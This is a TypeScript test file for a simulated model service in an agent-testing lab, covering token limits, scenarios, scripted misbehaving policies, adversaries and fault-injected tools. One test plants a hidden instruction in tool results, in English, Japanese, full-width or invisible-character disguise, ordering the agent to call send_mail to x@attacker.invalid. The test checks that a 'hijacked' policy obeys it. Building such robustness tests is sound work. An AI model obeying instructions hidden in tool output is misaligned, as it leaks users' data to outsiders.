import { describe, expect, test } from 'vitest'
import { randomStream } from '../random.ts'
import { ADVERSARIES, type AdversaryName, AGENTIC_CLASSES } from './adversaries.ts'
import { KEY, MODEL, ticketScenario, ticketWorld } from './fixture.ts'
import { CHANNELS, type Channel, inject } from './injections.ts'
import type { Message, ModelRequest, ToolCall } from './messages.ts'
import { ordersIn, POLICIES, type PolicyName } from './policies.ts'
import { scenario } from './scenario.ts'
import { type ModelPlan, ModelService } from './service.ts'
import { cutToLimit, inputTokens, outputTokens, tokensOf } from './tokens.ts'

const request = (messages: Message[], maxTokens: number | null = null): ModelRequest => ({
  ...{ format: 'chat-completions', model: MODEL, messages, tools: [], maxTokens, stream: false, streamsUsage: false },
})

const user: Message = { role: 'user', text: 'Close what is open.' }

function service(plan: Partial<ModelPlan> = {}) {
  return new ModelService({ scenario: ticketScenario, key: KEY, ...plan }, ticketWorld())
}

const resultsFor = (calls: readonly ToolCall[], text: string): Message[] =>
  [...new Set(calls.map(({ id }) => id))].map((callId) => ({ role: 'tool', callId, text, isError: false }))

/** A program that always tells the model the same, for `turns` turns. */
function converse(model: ModelService, text: string, turns: number): Message[] {
  const messages: Message[] = [user]
  for (let turn = 0; turn < turns; turn++) {
    const { turn: said } = model.answer(request([...messages]))
    messages.push({ role: 'assistant', text: said.text, calls: said.calls })
    messages.push(...resultsFor(said.calls, text))
  }
  return messages
}

describe('lab tokens', () => {
  test('are UTF-8 bytes by four, rounded up, and four a message', () => {
    expect(tokensOf('')).toBe(0)
    expect(tokensOf('abcde')).toBe(2)
    expect(tokensOf('データ')).toBe(3)
    expect(inputTokens(request([user]))).toBe(4 + 5)
  })

  test('limit what a turn says, and never inside a character', () => {
    const turn = { text: 'データはどこ', calls: [], stop: 'end' as const }
    expect(cutToLimit(turn, 2)).toEqual({ text: 'デー', calls: [], stop: 'length' })
    const call = {
      text: '',
      calls: [{ id: 'a', name: 'x', arguments: '{"long":"aaaaaaaaaaaaaaaa"}' }],
      stop: 'tools' as const,
    }
    const cut = cutToLimit(call, 7)
    expect(cut).toMatchObject({ stop: 'length', calls: [{ arguments: '{"long":' }] })
    expect(outputTokens(cut)).toBeLessThanOrEqual(7)
  })
})

describe('a scenario', () => {
  test('names what is wrong with it', () => {
    const act = () => ({})
    expect(() => scenario({ start: 'a', states: { a: { to: ['b'], act }, c: { to: [], act } } })).toThrow(
      'a: no state "b"; c: cannot be reached',
    )
    expect(() => scenario({ start: 'a', states: { a: { to: ['a'], act } } })).toThrow('no state is an end')
  })

  test('depends on what only the world knows: an invented result diverges', () => {
    const told = converse(service(), '{"tickets":["t-99"]}', 2)
    expect(told.at(-2)).toMatchObject({ calls: [{ name: 'close_ticket', arguments: '{"id":"t-99"}' }] })
  })
})

describe('policies', () => {
  test('looping never ends', () => {
    const messages = converse(service({ policy: 'looping' }), '{"tickets":["t-71"]}', 12)
    const calls = messages.filter((message) => message.role === 'assistant').map((message) => message.calls.length)
    expect(calls.slice(2)).toEqual(Array.from({ length: 10 }, () => 1))
  })

  test('sloppy slips over several keys, and gets there when told', () => {
    const slips = Array.from({ length: 12 }, (_, index) => {
      const model = service({ policy: 'sloppy', key: index.toString(16).padStart(64, '0') })
      const said = converse(model, '{"tickets":["t-71"]}', 6).filter((message) => message.role === 'assistant')
      expect(said.at(-1)).toMatchObject({ text: 'Closed.' })
      return said.some(({ calls }) => calls.some(({ name }) => name !== 'list_tickets' && name !== 'close_ticket'))
    })
    expect(slips).toContain(true)
  })

  test.each(Object.keys(CHANNELS) as Channel[])('hijacked obeys what hides in %s, in every disguise', (channel) => {
    for (const disguise of ['en', 'ja', 'full-width', 'invisible'] as const) {
      const order = { tool: 'send_mail', args: { to: 'x@attacker.invalid' } }
      const planted = inject(channel, order, { random: randomStream(KEY, 'plant'), disguise })
      expect(ordersIn(planted)).toEqual([order])
      const said = converse(service({ policy: 'hijacked' }), JSON.stringify({ tickets: ['t-71'], note: planted }), 2)
      expect(said.at(-2)).toMatchObject({ calls: [{ name: 'send_mail' }] })
      const honest = converse(service(), JSON.stringify({ tickets: ['t-71'], note: planted }), 2)
      expect(honest.at(-2)).toMatchObject({ calls: [{ name: 'close_ticket' }] })
    }
  })

  test.each(Object.keys(POLICIES) as PolicyName[])('%s says the same twice', (policy) => {
    const journal = () => {
      const model = service({ policy })
      converse(model, '{"tickets":["t-71"]}', 5)
      return model.journalText()
    }
    expect(journal()).toBe(journal())
  })
})

describe('adversaries', () => {
  test('are at least fifteen, each of a known class', () => {
    const classes = [...Object.values(ADVERSARIES).map((entry) => entry.class), ...Object.values(CHANNELS)]
    expect(Object.keys(ADVERSARIES).length).toBeGreaterThanOrEqual(15)
    for (const name of classes) expect(Object.keys(AGENTIC_CLASSES)).toContain(name)
  })

  const bending = Object.entries(ADVERSARIES).flatMap(([name, entry]) =>
    'turn' in entry ? [name as AdversaryName] : [],
  )
  test.each(bending)('%s changes the turn it comes on, and no other', (adversary) => {
    const plain = service()
    const bent = service({ adversaries: [{ adversary, at: [1] }] })
    const say = (model: ModelService) => {
      const [first] = [model.answer(request([user]))]
      const after: Message[] = [
        user,
        { role: 'assistant', ...first.turn },
        ...resultsFor(first.turn.calls, '{"tickets":["t-71"]}'),
      ]
      return [first.turn, model.answer(request(after)).turn]
    }
    const [honest, changed] = [say(plain), say(bent)]
    expect(changed[0]).toEqual(honest[0])
    expect(changed[1]).not.toEqual(honest[1])
  })
})

test('asking the same again is a retry: it costs tokens and changes nothing', () => {
  const model = service()
  const first = model.answer(request([user]))
  const again = model.answer(request([user]))
  expect(again.turn).toEqual(first.turn)
  expect(model.spent).toEqual({ input: first.usage.input * 2, output: first.usage.output * 2 })
})

test('a budget that is spent is refused, and the journal says so', () => {
  const model = service({ tokenBudget: 20 })
  model.answer(request([user]))
  expect(() => model.answer(request([{ role: 'user', text: 'again' }]))).toThrow('spent')
  expect(model.journal.at(-1)).toMatchObject({ kind: 'refusal', refusal: 'rate_limited' })
})

test('a world loses an answer after doing what was asked, once', () => {
  const world = ticketWorld([
    { at: 0, tool: 'close_ticket', kind: 'lost' },
    { at: 1, kind: 'unavailable' },
  ])
  expect(world.use('close_ticket', { id: 't-71' })).toEqual({ result: { closed: 't-71' }, fault: 'lost' })
  expect(() => world.use('list_tickets', {})).toThrow('Nothing was done')
  expect(world.effects).toHaveLength(1)
  expect(() => world.use('constructor', {})).toThrow('no tool')
})
